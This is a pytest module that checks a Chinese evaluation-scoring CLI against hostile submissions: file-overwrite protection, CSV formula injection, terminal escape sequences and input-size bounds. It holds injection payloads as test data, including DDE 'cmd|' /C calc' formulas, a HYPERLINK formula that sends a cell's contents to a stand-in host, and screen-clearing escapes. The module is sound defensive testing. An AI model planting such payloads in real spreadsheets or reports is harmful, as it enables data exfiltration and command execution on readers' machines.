"""A submission is untrusted: it cannot make ``score`` write over what it reads, and nothing it
says reaches a terminal, a spreadsheet or a browser as a live instruction."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import tomli_w
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from . import builder as b
from .conftest import ROOT, cli

INBOX = ROOT / "evaluations" / "inbox"
SEED = ROOT / "evaluations" / "2023.toml"

HOSTILE = {
    "formula": '=HYPERLINK("http://x.example/?"&A1,"点击")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "clear": "部门\x1b[2J\x1b[H伪造",
    "bell": "响铃\x07退格\x08",
    "forged": "名称\r\n✓ 全部通过",
    "bidi": "方向\u202e反转\u2066",
}
"""Text a department can type into a name or a reason, aimed at whoever reads the report."""

CONTROL = ["\x1b", "\x07", "\x08", "\r", "\u202e", "\u2066"]


@pytest.fixture
def hostile(tmp_path) -> Path:
    rows = [b.row("产出指标", text, "≥5个", 8, level2="数量指标", actual="4个", reason=text) for text in HOSTILE.values()]
    rows.append(b.row("效益指标", "效益", "≥90%", 100 - 8 * len(HOSTILE), level2="社会效益指标", actual="95%"))
    path = tmp_path / "hostile.toml"
    doc = b.evaluation(b.project(HOSTILE["formula"], *rows), department=HOSTILE["clear"])
    path.write_text(tomli_w.dumps(doc), encoding="utf-8")
    return path


# -- never write over what is read ---------------------------------------------------------------
def _unchanged(*paths: Path):
    before = {p: p.read_bytes() for p in paths}
    return lambda: all(p.read_bytes() == data for p, data in before.items())


def test_output_never_replaces_a_file_in_the_batch_folder_even_with_force(tmp_path):
    inbox = shutil.copytree(INBOX, tmp_path / "inbox")
    victims = [inbox / "丁局-政策宣传.toml", inbox / "approved" / "庚局-安防.toml", inbox / "壬局-水土保持.xlsx"]
    same = _unchanged(*victims)
    for victim in victims:
        result = cli(inbox, "-f", "csv", "-o", victim, "--force", code=2)
        assert "--force" in result.output and "Traceback" not in result.output
    assert same()


def test_output_never_replaces_the_approved_set_or_policy_an_evaluation_reads(tmp_path):
    inbox = shutil.copytree(INBOX, tmp_path / "inbox")
    approved = inbox / "approved" / "庚局-安防.toml"
    policy = tmp_path / "policy.toml"
    policy.write_text('id = "mine"\ntitle = "本局细则"\nextends = "central-2020"\n', encoding="utf-8")
    same = _unchanged(approved, policy)
    cli(inbox / "庚局-校园安防.toml", "-o", approved, "--force", code=2)
    cli(SEED, "--policy", policy, "-o", policy, "--force", code=2)
    cli(inbox, "--policy", policy, "-o", policy, "--force", code=2)
    book = inbox / "壬局-水土保持.xlsx"
    cli("import", book, "-o", policy, "--policy", policy, "--force", code=2)
    cli("import", book, "-o", book, "--force", code=2)
    cli("import", book, "-o", approved, "--approved", approved, "--force", code=2)
    assert same()


@pytest.mark.parametrize("where", ["folder", "under a file", "device"])
def test_an_output_that_cannot_be_a_file_is_a_clear_error(tmp_path, where):
    target = {"folder": tmp_path, "under a file": SEED / "r.csv", "device": Path("/dev/null")}[where]
    result = cli(SEED, "-f", "csv", "-o", target, "--force", code=2)
    assert "--output" in result.output and "Traceback" not in result.output
    assert not list(tmp_path.glob(".*.tmp"))


def test_an_output_follows_the_umask(tmp_path):
    old = os.umask(0o022)
    try:
        cli(SEED, "-f", "json", "-o", tmp_path / "r.json", code=(0, 1))
    finally:
        os.umask(old)
    assert (tmp_path / "r.json").stat().st_mode & 0o777 == 0o644


def test_sigterm_mid_write_leaves_no_temporary_file(tmp_path):
    """A scheduler's SIGTERM arrives while the report is half written: no report, no temporary file."""
    child = (
        "import os, signal, sys\n"
        "import scoring.report as report\n"
        "def half(result, fmt, out, lang, **kw):\n"
        "    out.write('半份报告')\n"
        "    out.flush()\n"
        "    os.kill(os.getpid(), signal.SIGTERM)\n"
        "    import time; time.sleep(30)\n"
        "report.render_result = half\n"
        "from scoring.console import main\n"
        "sys.argv = ['score', sys.argv[1], '-o', sys.argv[2]]\n"
        "main()\n"
    )
    target = tmp_path / "r.txt"
    done = subprocess.run([sys.executable, "-c", child, str(SEED), str(target)], capture_output=True, text=True, timeout=60)
    assert done.returncode == 128 + 15, done.stderr
    assert list(tmp_path.iterdir()) == []


# -- nothing live reaches the reader -------------------------------------------------------------
def _no_formula(cell: str) -> bool:
    return not cell or cell[0] not in "=+-@\t\r" or cell.lstrip("+-").replace(".", "", 1).isdigit()


def test_csv_cells_never_start_a_formula(hostile):
    doc = b.evaluation(b.project("项目", b.row("产出指标", "数量", "≥5个", 100, actual="5个")), department=HOSTILE["at"])
    (hostile.parent / "second.toml").write_text(tomli_w.dumps(doc), encoding="utf-8")
    for args, planted in (([hostile], HOSTILE["formula"]), ([hostile.parent], HOSTILE["at"])):  # one file's rows, a batch's summary
        out = cli(*args, "-f", "csv", code=(0, 1)).output
        cells = [c for row in csv.reader(io.StringIO(out.lstrip("\ufeff"), newline="")) for c in row]
        assert cells and all(map(_no_formula, cells)), [c for c in cells if not _no_formula(c)]
        assert "'" + planted in cells  # kept, readable, inert


@pytest.mark.parametrize("fmt", ["table", "markdown", "html", "csv"])
def test_no_control_character_reaches_the_reader(hostile, fmt):
    out = cli(hostile, "-f", fmt, *(["--explain"] if fmt == "table" else []), code=(0, 1)).output
    leaked = [c for c in CONTROL if c in out]
    assert not leaked, leaked
    assert "\\x1b" in out  # shown, escaped: the reader sees what was typed


def test_batch_outputs_carry_no_control_character(hostile):
    for fmt in ("table", "markdown", "html", "csv"):
        out = cli(hostile.parent, "-f", fmt, code=(0, 1)).output
        assert not [c for c in CONTROL if c in out], fmt


def test_error_messages_show_what_was_typed_escaped(write):
    path = write("bad.toml", 'department = "部门\\u001b[2J"\nyear = "二〇二三\\u0007"\n')
    result = cli(path, code=2)
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "\\x07" in result.output


def test_json_keeps_the_text_exactly(hostile):
    """JSON is for programs: its strings are escaped by JSON itself and hold exactly what was typed."""
    data = json.loads(cli(hostile, "-f", "json", code=(0, 1)).output)
    assert data["department"] == HOSTILE["clear"]


def test_the_workbook_holds_what_excel_can_and_says_what_it_cut(tmp_path):
    names = ["History", "a/b:c*?[d]", "'引号'", "中" * 40, "中" * 40 + "乙", "项目\x1b名"]
    long_reason = "原因" * 20_000
    rows = lambda: [b.row("产出指标", "数量", "≥5个", 100, level2="数量指标", actual="4个", reason=long_reason)]  # noqa: E731
    doc = b.evaluation(*(b.project(n, *rows()) for n in names))
    source = tmp_path / "e.toml"
    source.write_text(tomli_w.dumps(doc), encoding="utf-8")
    cli(source, "-f", "xlsx", "-o", tmp_path / "e.xlsx", code=(0, 1))
    wb = load_workbook(tmp_path / "e.xlsx")
    titles = wb.sheetnames
    assert len(titles) == len(set(t.lower() for t in titles)) == len(names) + 1
    for title in titles:
        assert len(title) <= 31 and not set(title) & set("[]:*?/\\") and title.lower() != "history"
        assert not title.startswith("'") and not title.endswith("'") and "\x1b" not in title
    cells = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert max(map(len, cells)) <= 32767
    assert any("\\x1b" in c for c in cells)
    warning = wb.worksheets[0]["A2"].value
    assert warning.startswith("警告") and str(len(names)) in warning


def test_the_bureaus_workbook_says_what_it_cut_too(tmp_path):
    """In the batch workbook, written as it goes, a reason past Excel's limit is cut wherever it
    appears (the submission's 自评表, the 差异明细 sheet) and every cut cell is named under the summary;
    a sheet whose name has a quote in it is still reached by its link."""
    long_reason = "原因" * 20_000
    doc = b.evaluation(b.project("O'Neil项目", b.row("产出指标", "数量", "≥5个", 100, level2="数量指标", actual="4个",
                                                    claimed=10, reason=long_reason)))
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    (inbox / "e.toml").write_text(tomli_w.dumps(doc), encoding="utf-8")
    cli(inbox, "-f", "xlsx", "-o", tmp_path / "review.xlsx", code=(0, 1))
    wb = load_workbook(tmp_path / "review.xlsx")
    cut = sorted(f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows() for c in row
                 if isinstance(c.value, str) and c.value.endswith("cut at Excel's cell limit］"))
    assert {name.split("!")[0] for name in cut} == {"差异明细", "1-O'Neil项目"}
    summary = wb.worksheets[0]
    assert summary["S2"].hyperlink.target == "#'1-O''Neil项目'!A1"  # Excel doubles a quote in a sheet reference
    warning = next(c.value for row in summary.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("警告："))
    assert f"{len(cut)} 个单元格" in warning and all(name in warning for name in cut)


# -- bounded input --------------------------------------------------------------------------------
_NESTED = st.recursive(st.integers() | st.text(max_size=2),
                       lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text("ab", max_size=2), inner, max_size=3),
                       max_leaves=40)


@given(st.dictionaries(st.text("xy", max_size=2), _NESTED, max_size=3), st.integers(1, 6))
def test_the_input_bounds_count_every_value_and_stop_past_the_depth(data, limit):
    """A file's values are counted (they count as a workbook's cells) and a table or array with
    anything in it at ``limit`` levels down is too deep; its path leads to it."""
    from scoring.load._toml import _shape

    def walk(node, depth: int) -> tuple[int, bool]:
        if not isinstance(node, (dict, list)):
            return 1, False
        children = list(node.values()) if isinstance(node, dict) else node
        below = [walk(c, depth + 1) for c in children]
        return sum(n for n, _ in below), (depth >= limit and bool(children)) or any(deep for _, deep in below)

    values, deep = walk(data, 0)
    path, counted = _shape(data, limit)
    assert (path is not None) == deep
    if deep:
        node = data
        for key in path[:-1]:
            node = node[key]
        assert len(path) == limit + 1 and isinstance(node, (dict, list)) and len(node) > 0
    else:
        assert counted == values


def test_a_file_nested_too_deep_is_refused_with_the_bound(tmp_path):
    source = tmp_path / "deep.toml"
    source.write_text('department = "甲"\nyear = 2023\nx = ' + "[" * 40 + "1" + "]" * 40 + "\n", encoding="utf-8")
    refused = cli(source, code=2)
    assert "不超过 32 层的嵌套" in refused.output and "deep.toml" in refused.output


def test_every_kind_of_file_is_held_to_the_cell_limit(tmp_path):
    """A TOML file's values count as a workbook's cells: the same --max-cells bounds both."""
    rows = [b.row("产出指标", f"指标{i}", "≥5个", 1, actual="5个") for i in range(100)]
    source = tmp_path / "many.toml"
    source.write_text(tomli_w.dumps(b.evaluation(b.project("项目", *rows))), encoding="utf-8")
    refused = cli(source, "--max-cells", "300", code=2)
    assert "--max-cells" in refused.output and "many.toml" in refused.output
    cli(source, "--max-cells", "1000", code=(0, 1))
    book = tmp_path / "many.xlsx"
    cli(source, "-f", "xlsx", "-o", book, code=(0, 1))
    assert "--max-cells" in cli(book, "--max-cells", "300", code=2).output


def test_a_file_name_is_the_submitters_text_too(tmp_path):
    """A department names its own file: a name with ESC in it is shown escaped by every command."""
    doc = b.evaluation(b.project("项目", b.row("产出指标", "数量", "≥5个", 100, actual="5个")))
    (tmp_path / "单位\x1b[2J伪造.toml").write_text(tomli_w.dumps(doc), encoding="utf-8")
    for args in (["check", tmp_path], [tmp_path], [tmp_path, "-f", "markdown"], [tmp_path, "-f", "csv"], [tmp_path, "-f", "html"]):
        out = cli(*args, code=(0, 1)).output
        assert "\x1b" not in out and "\\x1b" in out, args


def test_every_character_shown_escaped_is_one_text_cannot_print():
    """``shown`` passes printable text at once: that is safe only while every character it writes
    out is one ``str.isprintable`` refuses. Checked over all of Unicode."""
    from scoring.safe import _UNSAFE, shown
    escaped = [c for c in map(chr, range(0x110000)) if _UNSAFE.match(c)]
    assert len(escaped) > 60 and not any(c.isprintable() for c in escaped)
    assert all(shown(f"a{c}b") != f"a{c}b" for c in escaped)
    assert shown("某局　(盖章)\u3000") == "某局　(盖章)\u3000"  # unprintable (a wide space), and nothing to escape
